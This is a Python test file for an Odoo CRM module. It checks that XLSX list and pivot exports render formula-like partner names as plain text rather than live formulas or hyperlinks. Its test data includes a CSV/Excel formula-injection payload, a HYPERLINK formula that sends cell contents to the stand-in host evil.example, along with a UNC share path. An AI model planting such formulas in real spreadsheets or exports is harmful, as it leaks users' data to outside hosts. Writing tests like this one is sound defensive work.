import json
from io import BytesIO

from openpyxl import load_workbook

from odoo.http import Request
from odoo.tests import HttpCase, new_test_user, tagged

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"price")'


@tagged("post_install", "-at_install")
class TestOrganisationExport(HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        groups = "base.group_user,base.group_allow_export,crm_sales_flow.group_director"
        new_test_user(cls.env, "flow_exporter", groups=groups)
        names = [FORMULA, "{=1+1}", "external:\\\\evil.example\\share", "OOO Test"]
        cls.partners = cls.env["res.partner"].create([{"name": name} for name in names])

    def export(self, address, data):
        self.authenticate("flow_exporter", "flow_exporter")
        form = {"data": json.dumps(data), "csrf_token": Request.csrf_token(self)}
        response = self.url_open(address, data=form)
        self.assertEqual(response.status_code, 200)
        return [cell for row in load_workbook(BytesIO(response.content)).active for cell in row]

    def export_list(self, groupby):
        return self.export(
            "/web/export/xlsx",
            {
                "model": "res.partner",
                "fields": [{"name": "name", "label": "Name", "type": "char"}],
                "ids": self.partners.ids,
                "domain": [("id", "in", self.partners.ids)],
                "groupby": groupby,
                "import_compat": False,
                "context": {},
            },
        )

    def test_C03_texts_of_strangers_are_texts_in_excel(self):
        for groupby in ([], ["name"]):
            cells = self.export_list(groupby)
            self.assertIn(FORMULA, [cell.value for cell in cells])
            for cell in cells:
                self.assertNotEqual(cell.data_type, "f", cell.value)
                self.assertFalse(cell.hyperlink)

    def test_C03_titles_of_a_pivot_are_texts_in_excel(self):
        cells = self.export(
            "/web/pivot/export_xlsx",
            {
                "model": "res.partner",
                "title": "Clients",
                "measure_count": 1,
                "col_group_headers": [[{"title": FORMULA, "width": 1, "height": 1}]],
                "measure_headers": [{"title": "Count", "is_bold": False}],
                "rows": [{"title": FORMULA, "indent": 0, "values": [{"value": 3}]}],
            },
        )
        values = [cell.value for cell in cells]
        self.assertEqual(values.count(f"'{FORMULA}"), 2)
        self.assertIn(3, values)
        self.assertNotIn("f", [cell.data_type for cell in cells])
